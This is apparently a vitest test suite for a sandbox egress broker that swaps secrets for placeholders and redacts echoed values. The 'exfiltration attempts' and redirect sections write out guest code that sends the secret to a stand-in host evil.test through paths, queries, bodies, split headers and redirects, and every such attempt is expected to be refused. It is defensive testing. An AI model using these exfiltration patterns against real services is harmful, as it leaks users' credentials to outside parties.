import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import {
  ATTEMPT,
  auditOf,
  deployEgressAgent,
  echo,
  type FetchOutcome,
  type Handler,
  type RecordingServer,
  refusal,
  ScriptedResolver,
  startRecordingServer,
  testTLS,
} from './helpers/egress.ts'
import { type Body, startTestServer, type TestServer } from './helpers/server.ts'

/** The secret's value: unique to this run, with characters that percent-encoding and JSON change. */
const VALUE = `sk-live-${randomBytes(16).toString('hex')}/Q+z=~`
const PLACEHOLDER = /^cdn-secret-TOKEN-[0-9a-f]{32}$/

/**
 * Every form in which the value could reach the guest or a record, computed here independently of
 * the broker: as written, JSON-escaped, percent-encoded, hex, and base64/base64url at each of the
 * three alignments (the part of the encoding that depends on the value's bytes alone).
 */
function leakForms(value: string): string[] {
  const bytes = Buffer.from(value, 'utf8')
  const forms = [
    value,
    JSON.stringify(value).slice(1, -1),
    encodeURIComponent(value),
    encodeURIComponent(value).toLowerCase(),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
  ]
  for (let offset = 0; offset < 3; offset++) {
    const encoded = Buffer.concat([Buffer.alloc(offset), bytes]).toString('base64')
    const core = encoded.slice(4, -4)
    forms.push(core, core.replaceAll('+', '-').replaceAll('/', '_'))
  }
  return forms
}
const LEAKS = leakForms(VALUE)
/** The forms of the value found in `what` (serialised as JSON): none, when nothing leaked. */
const leaked = (what: unknown) => {
  const text = typeof what === 'string' ? what : JSON.stringify(what)
  return LEAKS.filter((form) => text.includes(form))
}

/** Echoes of `authorization` and `x-api-key` the way real servers echo them, in body and headers. */
const encodedEchoes = (text: string) => ({
  literal: text,
  base64: Buffer.from(text).toString('base64'),
  base64url: Buffer.from(text).toString('base64url'),
  percent: encodeURIComponent(text),
  hex: Buffer.from(text).toString('hex'),
})

/**
 * api.test: an echo (body, headers, status text), the same gzip-compressed, an echo escaping "/" as
 * PHP does, one that answers the x-api-key header reversed, and redirects.
 */
const apiRoutes: Handler = (seen, res) => {
  const url = new URL(seen.url, 'https://api.test')
  if (url.pathname === '/join') {
    // A server that puts two header halves back together into the next hop's query.
    res.writeHead(302, {
      location: `${url.searchParams.get('to')}?q=${seen.headers['x-a']}${seen.headers['x-b']}`,
    })
    res.end()
    return
  }
  if (url.pathname === '/bounce') {
    // A server that echoes the key it got into the next hop's URL.
    res.writeHead(302, {
      location: `${url.searchParams.get('to')}/?stolen=${seen.headers['x-api-key'] ?? ''}`,
    })
    res.end()
    return
  }
  const redirect = /^\/r\/(\d{3})$/.exec(url.pathname)
  if (redirect !== null) {
    res.writeHead(Number(redirect[1]), { location: url.searchParams.get('to') ?? '/' })
    res.end()
    return
  }
  const auth = String(seen.headers.authorization ?? '')
  const key = String(seen.headers['x-api-key'] ?? '')
  const body = JSON.stringify({ headers: seen.headers, auth: encodedEchoes(auth), key: encodedEchoes(key) })
  if (url.pathname === '/echo-reversed') {
    res.end([...key].reverse().join(''))
    return
  }
  if (url.pathname === '/echo-php') {
    res.setHeader('content-type', 'application/json')
    res.end(body.replaceAll('/', '\\/'))
    return
  }
  res.statusMessage = `OK ${auth}`
  res.setHeader('x-echo-authorization', auth)
  res.setHeader('x-echo-base64', Buffer.from(auth).toString('base64'))
  res.setHeader('x-echo-percent', encodeURIComponent(auth))
  res.setHeader('content-type', 'application/json')
  if (url.pathname === '/echo-gzip') {
    res.setHeader('content-encoding', 'gzip')
    res.end(gzipSync(body))
    return
  }
  res.end(body)
}

const resolver = new ScriptedResolver().set('api.test', ['127.0.0.1']).set('evil.test', ['127.0.0.2'])
let service: TestServer
/** https://api.test:A, the host TOKEN is granted for. */
let api: RecordingServer
/** http://api.test:H, the same host in clear text. */
let plain: RecordingServer
/** https://evil.test:E, allowed by the network rules, never granted a secret. */
let evil: RecordingServer
let A = ''
let H = ''
let E = ''

const SECRETS = {
  TOKEN: { from: 'env:TOKEN', hosts: ['api.test'] },
  MISSING: { from: 'env:MISSING', hosts: ['api.test'] },
  HOST_PATH: { from: 'env:PATH', hosts: ['api.test'] },
  QUERY_TOKEN: { from: 'env:TOKEN', hosts: ['api.test'], query: true },
}

async function deployVault(target: TestServer): Promise<void> {
  await deployEgressAgent(
    target,
    'vault',
    {
      allow: [
        {
          host: 'api.test',
          schemes: ['https', 'http'],
          ports: [api.port, plain.port],
          methods: ['GET', 'POST'],
        },
        { host: 'evil.test', schemes: ['https'], ports: [evil.port], methods: ['GET', 'POST'] },
      ],
      allowPrivateAddresses: true,
    },
    { secrets: SECRETS },
  )
}

beforeAll(async () => {
  api = await startRecordingServer({ tls: true, handler: apiRoutes })
  plain = await startRecordingServer({ handler: echo })
  evil = await startRecordingServer({ tls: true, host: '127.0.0.2', handler: echo })
  A = api.origin('api.test')
  H = plain.origin('api.test')
  E = evil.origin('evil.test')
  service = await startTestServer({
    egress: { resolver, ca: [testTLS().ca] },
    envSecrets: { default: { TOKEN: VALUE } },
  })
  await deployVault(service)
})

afterAll(async () => {
  await service?.close()
  await Promise.all([api?.close(), plain?.close(), evil?.close()])
})

beforeEach(() => {
  for (const server of [api, plain, evil]) server.seen.length = 0
})

/** Runs guest code as the vault agent; the record must exist (whatever its status). */
async function run(code: string): Promise<Body> {
  const { status, body } = await service.execute(`${ATTEMPT}\n${code}`, {}, 'vault')
  expect(status, JSON.stringify(body)).toBe(200)
  return body
}

/** The record as stored, and every audit row of it: neither may hold the value in any form. */
async function expectNoLeakStored(record: Body): Promise<void> {
  const stored = await service.request('GET', `/v1/executions/${record.id}`)
  expect(stored.status).toBe(200)
  const rows = await auditOf(service, record.id)
  expect(rows.length).toBeGreaterThan(0)
  expect({ record: leaked(record), stored: leaked(stored.body), audit: leaked(rows) }).toEqual({
    record: [],
    stored: [],
    audit: [],
  })
}

describe('the guest holds a placeholder, never the value', () => {
  it('sees one opaque placeholder per granted secret, fresh for each execution', async () => {
    const code =
      'export default { names: Object.keys(secrets), token: secrets.TOKEN, frozen: Object.isFrozen(secrets) }'
    const first = await run(code)
    const second = await run(code)
    expect(first.result.names).toEqual(['TOKEN', 'MISSING', 'HOST_PATH', 'QUERY_TOKEN'])
    expect(first.result.token).toMatch(PLACEHOLDER)
    expect(first.result.frozen).toBe(true)
    expect(second.result.token).toMatch(PLACEHOLDER)
    expect(second.result.token).not.toBe(first.result.token)
    expect(leaked([first, second])).toEqual([])
  })

  it.each([
    [
      'printed to stdout and stderr',
      'console.log(secrets.TOKEN); console.error(JSON.stringify(secrets)); export default 1',
    ],
    ['returned as the result', 'export default [secrets.TOKEN, String(secrets.TOKEN), { ...secrets }]'],
    ['thrown in an error', 'throw new Error("token: " + secrets.TOKEN)'],
  ])('the placeholder %s reveals nothing of the value', async (_, code) => {
    const record = await run(code)
    expect(JSON.stringify(record)).toMatch(/cdn-secret-TOKEN-[0-9a-f]{32}/)
    await expectNoLeakStored(record)
  })
})

describe('injection to the granted host', () => {
  it('a granted request arrives with the real value, and every echo of it comes back redacted', async () => {
    const record = await run(`
      const outcome = await attempt('${A}/echo', {
        headers: { Authorization: 'Bearer ' + secrets.TOKEN, 'X-Api-Key': secrets.TOKEN },
      })
      // What the guest learned goes everywhere it can: stdout, stderr, the result, an error.
      console.log(JSON.stringify(outcome))
      console.error(outcome.text)
      export default outcome`)
    expect(record.status).toBe('ok')
    expect(api.seen.map((seen) => [seen.headers.authorization, seen.headers['x-api-key']])).toEqual([
      [`Bearer ${VALUE}`, VALUE],
    ])
    const outcome = record.result as FetchOutcome
    if (!('text' in outcome)) throw new Error(JSON.stringify(outcome))
    const echoed = JSON.parse(outcome.text)
    expect(echoed.headers.authorization).toBe('Bearer [REDACTED:TOKEN]')
    expect(echoed.auth.literal).toBe('Bearer [REDACTED:TOKEN]')
    expect(echoed.key.literal).toBe('[REDACTED:TOKEN]')
    for (const form of ['base64', 'base64url', 'percent', 'hex'])
      expect([form, echoed.auth[form], echoed.key[form]]).toEqual([
        form,
        expect.stringContaining('[REDACTED:TOKEN]'),
        expect.stringContaining('[REDACTED:TOKEN]'),
      ])
    const headers = Object.fromEntries(outcome.headers)
    expect(headers['x-echo-authorization']).toBe('Bearer [REDACTED:TOKEN]')
    expect(headers['x-echo-base64']).toContain('[REDACTED:TOKEN]')
    expect(headers['x-echo-percent']).toContain('[REDACTED:TOKEN]')
    expect(outcome.statusText).toBe('OK Bearer [REDACTED:TOKEN]')
    await expectNoLeakStored(record)
  })

  it('a gzip-compressed echo is redacted after decompression', async () => {
    const record = await run(
      `export default await attempt('${A}/echo-gzip', { headers: { Authorization: 'Bearer ' + secrets.TOKEN } })`,
    )
    expect(api.seen.map((seen) => seen.headers.authorization)).toEqual([`Bearer ${VALUE}`])
    expect(JSON.parse(record.result.text).auth.literal).toBe('Bearer [REDACTED:TOKEN]')
    await expectNoLeakStored(record)
  })

  it('a JSON echo that escapes "/" as "\\/" (PHP json_encode) does not hand the value to the guest', async () => {
    const record = await run(`
      const outcome = await attempt('${A}/echo-php', { headers: { 'X-Api-Key': secrets.TOKEN } })
      export default outcome.text.replaceAll('\\\\/', '/')`)
    expect(api.seen.map((seen) => seen.headers['x-api-key'])).toEqual([VALUE])
    expect(leaked(record.result)).toEqual([])
  })

  it.each([
    ['stdout', 'console.log(learned)\nexport default 1'],
    ['stderr', 'console.error(learned)\nexport default 1'],
    ['result', 'export default learned'],
    ['error', 'throw new Error(learned)'],
  ])(
    'a value the guest rebuilt from an echo no encoding covers (reversed) is redacted from its %s',
    async (sink, use) => {
      const record = await run(`
      const outcome = await attempt('${A}/echo-reversed', { headers: { 'X-Api-Key': secrets.TOKEN } })
      const learned = outcome.text.split('').reverse().join('')
      ${use}`)
      expect(api.seen.map((seen) => seen.headers['x-api-key'])).toEqual([VALUE])
      expect(JSON.stringify(record[sink])).toContain('[REDACTED:TOKEN]')
      await expectNoLeakStored(record)
    },
  )

  it('the audit row of a granted call names the secret it used, not its value', async () => {
    const record = await run(
      `export default await attempt('${A}/echo', { headers: { 'X-Api-Key': secrets.TOKEN } })`,
    )
    const rows = (await auditOf(service, record.id)).filter((row) => row.kind === 'binding.fetch.request')
    expect(rows.map(({ decision, code, rule }) => [decision, code, rule])).toEqual([
      ['allow', 'ALLOWED', 'profiles/vault#/network/allow/0'],
    ])
    expect(rows[0]?.detail.secrets).toEqual(['TOKEN'])
    await expectNoLeakStored(record)
  })
})

describe('exfiltration attempts', () => {
  it('the placeholder in a header to a host it is not granted for is refused and audited', async () => {
    const record = await run(
      `export default await attempt('${E}/steal', { headers: { Authorization: 'Bearer ' + secrets.TOKEN } })`,
    )
    expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_HOST_NOT_ALLOWED'])
    expect(record.result.error.rule).toBe('profiles/vault#/secrets/TOKEN/hosts')
    expect(evil.seen).toEqual([])
    const rows = await auditOf(service, record.id)
    expect(rows.map(({ kind, decision, code }) => [kind, decision, code])).toContainEqual([
      'secret.exfiltration',
      'deny',
      'SECRET_HOST_NOT_ALLOWED',
    ])
    await expectNoLeakStored(record)
  })

  it.each([
    ['the URL path', () => `'${A}/steal/' + secrets.TOKEN`, '{}'],
    ['the query', () => `'${A}/steal?k=' + secrets.TOKEN`, '{}'],
    ['the fragment', () => `'${A}/steal#' + secrets.TOKEN`, '{}'],
    ['the body', () => `'${A}/steal'`, `{ method: 'POST', body: 'k=' + secrets.TOKEN }`],
    [
      'a binary body',
      () => `'${A}/steal'`,
      `{ method: 'POST', body: Uint8Array.from(secrets.TOKEN, (c) => c.charCodeAt(0)) }`,
    ],
  ])(
    'the placeholder in %s, even to the granted host, is refused (SECRET_OUTSIDE_HEADERS)',
    async (_, url, init) => {
      const record = await run(`export default await attempt(${url()}, ${init})`)
      expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_OUTSIDE_HEADERS'])
      expect(record.result.error.rule).toBe('profiles/vault#/secrets/TOKEN')
      expect(api.seen).toEqual([])
      const rows = await auditOf(service, record.id)
      expect(rows.map((row) => row.kind)).toContain('secret.exfiltration')
    },
  )

  it('the placeholder over plain http to the granted host is refused (SECRET_PLAINTEXT)', async () => {
    const record = await run(
      `export default await attempt('${H}/', { headers: { Authorization: 'Bearer ' + secrets.TOKEN } })`,
    )
    expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_PLAINTEXT'])
    expect(plain.seen).toEqual([])
  })

  it.each([301, 302, 303, 307, 308])(
    'a %i from the granted host to evil.test with the secret in a custom header is refused',
    async (status) => {
      const to = encodeURIComponent(`${E}/collect`)
      const record = await run(
        `export default await attempt('${A}/r/${status}?to=${to}', { headers: { 'X-Api-Key': secrets.TOKEN } })`,
      )
      expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_HOST_NOT_ALLOWED'])
      expect(api.seen.map((seen) => seen.headers['x-api-key'])).toEqual([VALUE])
      expect(evil.seen).toEqual([])
      await expectNoLeakStored(record)
    },
  )

  it('a redirect from the granted host to evil.test drops Authorization: evil.test gets neither value nor placeholder', async () => {
    const to = encodeURIComponent(`${E}/collect`)
    const record = await run(
      `export default await attempt('${A}/r/302?to=${to}', { headers: { Authorization: 'Bearer ' + secrets.TOKEN } })`,
    )
    expect(record.result.status).toBe(200)
    expect(evil.seen.map((seen) => [seen.url, seen.headers.authorization])).toEqual([['/collect', undefined]])
    expect(JSON.stringify(evil.seen)).not.toMatch(/cdn-secret-/)
    expect(leaked(evil.seen)).toEqual([])
  })

  it('a redirect from https to http on the granted host with the secret in a custom header is refused', async () => {
    const to = encodeURIComponent(`${H}/downgraded`)
    const record = await run(
      `export default await attempt('${A}/r/307?to=${to}', { headers: { 'X-Api-Key': secrets.TOKEN } })`,
    )
    expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_PLAINTEXT'])
    expect(plain.seen).toEqual([])
  })

  it("a placeholder from another execution is only text: it never becomes this execution's value", async () => {
    const old = (await run('export default secrets.TOKEN')).result
    expect(old).toMatch(PLACEHOLDER)
    const record = await run(
      `export default await attempt('${A}/echo', { headers: { 'X-Api-Key': ${JSON.stringify(old)} } })`,
    )
    expect(record.result.status).toBe(200)
    expect(api.seen.map((seen) => seen.headers['x-api-key'])).toEqual([old])
  })
})

describe('secret sources', () => {
  it('a secret whose source has no value is refused (SECRET_UNAVAILABLE) and nothing is sent', async () => {
    const record = await run(
      `export default await attempt('${A}/', { headers: { 'X-Api-Key': secrets.MISSING } })`,
    )
    expect(refusal(record.result)).toEqual(['SECRET_UNAVAILABLE', null])
    expect(api.seen).toEqual([])
  })

  it('env:PATH is not a value when the operator did not expose it', async () => {
    const record = await run(
      `export default await attempt('${A}/', { headers: { 'X-Api-Key': secrets.HOST_PATH } })`,
    )
    expect(refusal(record.result)).toEqual(['SECRET_UNAVAILABLE', null])
    expect(api.seen).toEqual([])
  })

  it('a service started without envSecrets ignores the process environment (PATH, TOKEN)', async () => {
    const saved = { TOKEN: process.env.TOKEN, CORDON_ENV_SECRETS: process.env.CORDON_ENV_SECRETS }
    process.env.TOKEN = `from-process-env-${randomBytes(8).toString('hex')}`
    delete process.env.CORDON_ENV_SECRETS
    const bare = await startTestServer({ egress: { resolver, ca: [testTLS().ca] } })
    try {
      await deployVault(bare)
      for (const name of ['TOKEN', 'HOST_PATH']) {
        const { body } = await bare.execute(
          `${ATTEMPT}\nexport default await attempt('${A}/', { headers: { 'X-Api-Key': secrets.${name} } })`,
          {},
          'vault',
        )
        expect([name, refusal(body.result)]).toEqual([name, ['SECRET_UNAVAILABLE', null]])
      }
      expect(api.seen).toEqual([])
    } finally {
      await bare.close()
      for (const [name, value] of Object.entries(saved)) {
        if (value === undefined) delete process.env[name]
        else process.env[name] = value
      }
    }
  })
})

describe('secrets in a URL query, where the grant says so', () => {
  it('a grant with query: true puts the value into the query of a request to its host', async () => {
    const record = await run(`export default await attempt('${A}/echo?key=' + secrets.QUERY_TOKEN + '&x=1')`)
    expect(record.result.status).toBe(200)
    expect(api.seen).toHaveLength(1)
    expect(api.seen[0]?.url).toContain(`key=${VALUE}`)
    await expectNoLeakStored(record)
  })

  it('attack: the query placeholder headed for another host is refused; that host sees nothing', async () => {
    const record = await run(`export default await attempt('${E}/?key=' + secrets.QUERY_TOKEN)`)
    expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_HOST_NOT_ALLOWED'])
    expect(evil.seen).toEqual([])
  })

  it('attack: a value the granted server echoes into a redirect URL does not travel to another host', async () => {
    const record = await run(
      `export default await attempt('${A}/bounce?to=' + encodeURIComponent('${E}'), { headers: { 'x-api-key': secrets.TOKEN } })`,
    )
    expect(api.seen).toHaveLength(1)
    expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_HOST_NOT_ALLOWED'])
    expect(evil.seen).toEqual([])
    const rows = await auditOf(service, record.id)
    expect(rows.some((row: Body) => row.kind === 'secret.exfiltration')).toBe(true)
    await expectNoLeakStored(record)
  })
})

describe('placeholders a server puts into a redirect', () => {
  it('attack: a placeholder split across headers and rejoined by the server into a redirect query is refused', async () => {
    const record = await run(
      `const p = secrets.TOKEN, half = p.length >> 1
       export default await attempt('${A}/join?to=' + encodeURIComponent('${A}/echo'), { headers: { 'x-a': p.slice(0, half), 'x-b': p.slice(half) } })`,
    )
    expect(refusal(record.result)).toEqual(['SECRET_DENIED', 'SECRET_OUTSIDE_HEADERS'])
    expect(api.seen.map((seen) => new URL(seen.url, 'https://api.test').pathname)).toEqual(['/join'])
  })
})
